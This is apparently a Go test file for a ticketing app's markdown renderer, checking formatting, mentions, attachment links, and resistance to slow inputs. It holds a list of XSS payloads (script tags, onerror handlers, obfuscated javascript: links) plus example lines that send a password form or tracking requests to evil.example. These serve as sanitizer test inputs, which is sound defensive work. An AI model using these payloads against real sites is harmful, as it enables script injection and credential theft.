package markdown_test

import (
	"strings"
	"testing"

	"golang.org/x/net/html"

	"suivi/markdown"
)

const ada = "usr_01ARZ3NDEKTSV4RRFFQ69G5FAV"

func TestMarkdownBecomesHTML(t *testing.T) {
	t.Parallel()
	r := markdown.New()
	for text, want := range map[string]string{
		"Hello *you* and **them**":     "<p>Hello <em>you</em> and <strong>them</strong></p>",
		"one\ntwo":                     "<p>one<br>\ntwo</p>",
		"# Title":                      "<h1>Title</h1>",
		"- a\n- b":                     "<ul>\n<li>a</li>\n<li>b</li>\n</ul>",
		"3. a":                         "<ol start=\"3\">\n<li>a</li>\n</ol>",
		"> said":                       "<blockquote>\n<p>said</p>\n</blockquote>",
		"`a<b`":                        "<p><code>a&lt;b</code></p>",
		"```go\nx := 1\n```":           "<pre><code class=\"language-go\">x := 1\n</code></pre>",
		"~~no~~":                       "<p><del>no</del></p>",
		"https://example.org/?a=1&b=2": `<p><a href="https://example.org/?a=1&amp;b=2" rel="nofollow noreferrer">https://example.org/?a=1&amp;b=2</a></p>`,
		"[x](mailto:a@example.org)":    `<p><a href="mailto:a@example.org" rel="nofollow noreferrer">x</a></p>`,
		"[x](/tickets/HELP-1)":         `<p><a href="/tickets/HELP-1" rel="nofollow noreferrer">x</a></p>`,
		"1 < 2 && <b>bold</b>":         "<p>1 &lt; 2 &amp;&amp; &lt;b&gt;bold&lt;/b&gt;</p>",
		"<div>\nblock\n</div>":         "<p>&lt;div&gt;<br>\nblock<br>\n&lt;/div&gt;</p>",
		"|a|\n|:-:|\n|b|":              "<table>\n<thead>\n<tr>\n<th align=\"center\">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"center\">b</td>\n</tr>\n</tbody>\n</table>",
		"":                             "",
	} {
		if got := strings.TrimSpace(r.HTML(text, markdown.Known{})); got != want {
			t.Errorf("%q: got  %s\nwant %s", text, got, want)
		}
	}
}

func TestAMentionShowsTheName(t *testing.T) {
	t.Parallel()
	r := markdown.New()
	names := map[string]string{ada: `Ada <script>"`}
	span := `<span class="mention" data-user="` + ada + `">@Ada &lt;script&gt;&#34;</span>`
	for text, want := range map[string]string{
		"Hi @" + ada + "!":         "<p>Hi " + span + "!</p>",
		"*@" + ada + "*":           "<p><em>" + span + "</em></p>",
		"mail@" + ada:              "<p>mail@" + ada + "</p>",
		"`@" + ada + "`":           "<p><code>@" + ada + "</code></p>",
		"@usr_":                    "<p>@usr_</p>",
		"@" + ada[:29] + "B":       `<p><span class="mention" data-user="` + ada[:29] + `B">@` + ada[:29] + `B</span></p>`,
		"@" + strings.ToLower(ada): "<p>@" + strings.ToLower(ada) + "</p>",
	} {
		if got := strings.TrimSpace(r.HTML(text, markdown.Known{Names: names})); got != want {
			t.Errorf("%q: got  %s\nwant %s", text, got, want)
		}
	}
}

// The files that a reader may see: a picture, and one that is none.
const (
	photo = "att_ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	paper = "att_PPPPPPPPPPPPPPPPPPPPPPPPPP"
	other = "att_OOOOOOOOOOOOOOOOOOOOOOOOOO" // of another ticket, or of nobody
)

var files = map[string]bool{photo: true, paper: false}

func TestPicturesAreThoseOfTheTicketAndOthersAreLinks(t *testing.T) {
	t.Parallel()
	r := markdown.New()
	link := func(to, words string) string {
		return `<a href="` + to + `" rel="nofollow noreferrer">` + words + `</a>`
	}
	const at = "/api/v1/attachments/"
	for text, want := range map[string]string{
		"![p](attachment:" + photo + ")":                     `<img src="` + at + photo + `" alt="p">`,
		"![p](" + at + photo + ` "T")`:                       `<img src="` + at + photo + `" alt="p" title="T">`,
		"![p][1]\n\n[1]: attachment:" + photo:                `<img src="` + at + photo + `" alt="p">`,
		"[![p](attachment:" + photo + ")](https://a.org)":    link("https://a.org", `<img src="`+at+photo+`" alt="p">`),
		"![p](attachment:" + paper + ")":                     link(at+paper, "p"),
		"[p](attachment:" + paper + ")":                      link(at+paper, "p"),
		"[p](" + at + photo + ")":                            link(at+photo, "p"),
		"![*p*](attachment:" + other + ")":                   "<em>p</em>",
		"[*p*](attachment:" + other + ")":                    "<em>p</em>",
		"![p](" + at + other + ")":                           "p",
		"[p](" + at + other + ")":                            "p",
		"![p](https://evil.example/track.png)":               link("https://evil.example/track.png", "p"),
		"![](https://evil.example/track.png)":                link("https://evil.example/track.png", "https://evil.example/track.png"),
		"[![p](http://evil.example/t)](https://a.org)":       link("https://a.org", "p"),
		"![p](//evil.example/track.png)":                     "p",
		"![p](attachment:" + photo + "/../x)":                "p",
		"![p](data:image/png;base64,AAAA)":                   "p",
		"![a ![b](attachment:" + photo + ")](https://a.org)": link("https://a.org", `a <img src="`+at+photo+`" alt="b">`),
	} {
		if got := strings.TrimSpace(r.HTML(text, markdown.Known{Files: files})); got != "<p>"+want+"</p>" {
			t.Errorf("%q: got  %s\nwant %s", text, got, want)
		}
	}
	if got := r.HTML("![p](attachment:"+photo+")", markdown.Known{}); strings.Contains(got, photo) {
		t.Errorf("who sees no file gets %s", got)
	}
}

// hostile is what attackers try (OWASP's and GFM's lists).
var hostile = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src onerror=alert(1)>`, `<iframe src="javascript:alert(1)">`, `<a href="javascript:alert(1)">x</a>`,
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, "[x](java\nscript:alert(1))", `[x](&#106;avascript:alert(1))`, `[x](&#x6A;avascript&#58;alert(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](vbscript:msgbox(1))`, `<javascript:alert(1)>`, `![x](javascript:alert(1))`, `![x](https://evil.example/track.png)`,
	`![x](//evil.example/track.png)`, `![x](/api/v1/attachments/../people)`, `![x" onerror="alert(1)](/api/v1/attachments/a)`,
	`[x](https://a" onmouseover="alert(1))`, `[x](/ "t\" onmouseover=alert(1)")`, "```\" onload=\"alert(1)\nx\n```", "```<script>\nx\n```",
	`<form action="https://evil.example"><input name=password>`, `<style>*{background:url(https://evil.example)}</style>`,
	`<div hx-get="/x" hx-trigger="load">`, `<div data-hx-get="/x">`, `<a id="location" name="cookie">`, `<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|", `<!--><script>alert(1)</script>-->`,
	"[x]: javascript:alert(1)\n\n[x]", `<p style="position:fixed">x</p>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, "\x00<script\x00>alert(1)</script>",
	`<<script>alert(1)//<</script>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<span class="mention admin" data-user="x">y</span>`,
	`![x" onerror="alert(1)](attachment:` + photo + `)`, `![x](attachment:` + photo + ` "\" onerror=alert(1)")`, `![x](attachment:` + photo + `"onerror=alert(1))`,
}

// allowed are the attributes that any element may have, and what its links may begin with.
var allowed = map[string]func(string) bool{
	"href":      func(v string) bool { return begins(v, "http://", "https://", "mailto:", "/") },
	"src":       func(v string) bool { return begins(v, "/api/v1/attachments/") && !strings.Contains(v, "..") },
	"rel":       func(v string) bool { return v == "nofollow noreferrer" },
	"align":     func(v string) bool { return v == "left" || v == "center" || v == "right" },
	"class":     func(v string) bool { return v == "mention" || begins(v, "language-") },
	"alt":       func(string) bool { return true },
	"title":     func(string) bool { return true },
	"start":     func(string) bool { return true },
	"data-user": func(v string) bool { return begins(v, "usr_") },
}

func begins(value string, prefixes ...string) bool {
	for _, p := range prefixes {
		if strings.HasPrefix(value, p) {
			return true
		}
	}
	return false
}

// What a browser makes of the answer has no element or attribute beyond the list.
func TestHostileTextsAreTamed(t *testing.T) {
	t.Parallel()
	r := markdown.New()
	for _, text := range hostile {
		for _, text := range []string{text, "> " + text, "- " + text, "**" + text + "**", "a " + text} {
			checkTame(t, text, r.HTML(text, markdown.Known{Names: map[string]string{ada: text}, Files: files}))
		}
	}
	checkTame(t, "a hostile name", r.HTML("@"+ada, markdown.Known{Names: map[string]string{ada: strings.Join(hostile, " ")}, Files: files}))
}

func checkTame(t *testing.T, text, answer string) {
	t.Helper()
	elements := " html head body p br hr h1 h2 h3 h4 h5 h6 strong em del blockquote ul ol li pre code table thead tbody tr th td a img span "
	root, err := html.Parse(strings.NewReader(answer))
	if err != nil {
		t.Fatal(err)
	}
	for node := range root.Descendants() {
		if node.Type == html.CommentNode || node.Type == html.ElementNode && !strings.Contains(elements, " "+node.Data+" ") {
			t.Errorf("%q becomes %s, with %s", text, answer, node.Data)
		}
		for _, a := range node.Attr {
			if check, ok := allowed[a.Key]; !ok || !check(a.Val) {
				t.Errorf("%q becomes %s, with %s=%q", text, answer, a.Key, a.Val)
			}
		}
	}
}

func FuzzHTMLIsTame(f *testing.F) {
	for _, text := range hostile {
		f.Add(text, "Ada")
	}
	r := markdown.New()
	f.Fuzz(func(t *testing.T, text, name string) {
		checkTame(t, text, r.HTML(text, markdown.Known{Names: map[string]string{ada: name}, Files: files}))
	})
}

// pieces make texts of the greatest size, and tell whether those are shown as typed.
var pieces = map[string]bool{
	">": true, "> ": true, "1. ": true, "- ": true, "1) > * ": true, "[": true, "![": true, "[a](": true, "*a ": true, "_": true,
	"](": false, "`": false, "@": false, "<": false, "&": false, "|": false, "~": false, "\n> ": false, "\n- a": false, "    - a\n": false, "http://a ": false,
}

// BenchmarkHTML tells how long the others of that size take.
func TestTextsThatAreMadeToBeSlowAreShownAsTyped(t *testing.T) {
	t.Parallel()
	r := markdown.New()
	for piece, plain := range pieces {
		text := "a\n" + strings.Repeat(piece, 64*1024/len(piece))
		got := r.HTML(text, markdown.Known{})
		if want := "<pre>" + html.EscapeString(text) + "</pre>\n"; (got == want) != plain {
			t.Errorf("%q is shown as typed: %v, want %v", piece, got == want, plain)
		}
	}
	deep := strings.Repeat("> ", 32) + "a"
	if got := r.HTML(deep, markdown.Known{}); strings.Count(got, "<blockquote>") != 32 {
		t.Errorf("got %s, want 32 quotes in one another", got)
	}
}

func BenchmarkHTML(b *testing.B) {
	r := markdown.New()
	for piece, plain := range pieces {
		if plain {
			continue
		}
		text := strings.Repeat(piece, 64*1024/len(piece))
		b.Run(piece, func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				r.HTML(text, markdown.Known{})
			}
		})
	}
}

// A renderer remembers texts, but none that says something else to another reader, or later.
func TestNobodyIsCalledByANameOfBefore(t *testing.T) {
	t.Parallel()
	r := markdown.New()
	for _, name := range []string{"Ann", "Ann Bee"} {
		for range 2 {
			got := r.HTML("See @"+somebody, markdown.Known{Names: map[string]string{somebody: name}})
			if !strings.Contains(got, ">@"+name+"<") {
				t.Errorf("got %s, want %s in it", got, name)
			}
		}
	}
}
